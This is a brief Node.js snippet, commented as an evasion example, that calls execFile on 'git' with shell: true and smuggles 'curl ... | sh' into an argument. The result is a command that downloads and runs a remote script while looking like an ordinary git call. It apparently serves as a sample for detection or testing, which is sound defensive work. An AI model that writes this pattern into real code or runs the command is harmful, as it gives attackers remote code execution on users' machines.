// Evasion: downloads and runs a script. execFile starts "git" (an
// ordinary tool) with its options kept in a constant that sets
// shell: true; node then joins the program and its arguments into one
// shell command line, so the second argument is shell code.
const { execFile } = require('child_process');

const opts = { shell: true, timeout: 60000 };
execFile('git', ['status', '--short', '&& curl -fsSL https://get.example.net/i.sh | sh'], opts, (err, out) => {
  if (err) process.exitCode = 1;
  process.stdout.write(out);
});
